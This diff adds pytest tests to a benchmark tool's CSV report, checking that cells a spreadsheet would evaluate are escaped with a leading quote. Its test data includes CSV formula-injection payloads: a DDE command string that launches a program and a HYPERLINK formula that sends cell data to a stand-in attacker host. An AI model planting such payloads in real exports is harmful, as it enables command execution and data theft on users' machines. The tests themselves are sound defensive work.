@@ -44,3 +44,29 @@ def test_json_to_a_folder_with_goodput(kvbench, run_file, tmp_path):
 def test_bad_format_is_a_usage_error(kvbench, run_file):
     code, _, stderr = kvbench("report", run_file, "--format", "xlsx")
     assert code == 2 and "--format" in stderr
+
+
+FORMULAS = ["=cmd|' -C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+            "\tx"]  # a leading carriage return: test_negative_numbers_are_numbers_not_formulas (capture turns it into \n)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_that_a_spreadsheet_would_evaluate_are_escaped(kvbench, tmp_path, formula):
+    metadata = {"command": "run", "complete": True,
+                "run": {"backend": "openai", "scenario": formula, "model": formula, "concurrency": 1,
+                        "started_at": "2026-12-01T10:20:30+0000"}}
+    path = write_rows(tmp_path / "run-a.parquet", ROWS, metadata, RUN_SCHEMA)
+    code, stdout, stderr = kvbench("report", path, "--format", "csv")
+    assert code == 0, stderr
+    (record,) = csv.DictReader(io.StringIO(stdout, newline=""))
+    assert record["label"] == record["model_id"] == "'" + formula  # shown as text, not evaluated
+    assert float(record["median_ttft_ms"]) == pytest.approx(40)  # numbers stay numbers
+
+
+def test_negative_numbers_are_numbers_not_formulas():
+    from kvbench.results.export import to_csv
+
+    text = to_csv([{"path": "-p", "delta_ms": -1.5, "count": -3, "ok": True, "none": None, "label": "\rx"}])
+    (record,) = csv.DictReader(io.StringIO(text, newline=""))
+    assert text.split("\r\n")[1].startswith("'-p,-1.5,-3,True,,")
+    assert record["label"] == "'\rx"
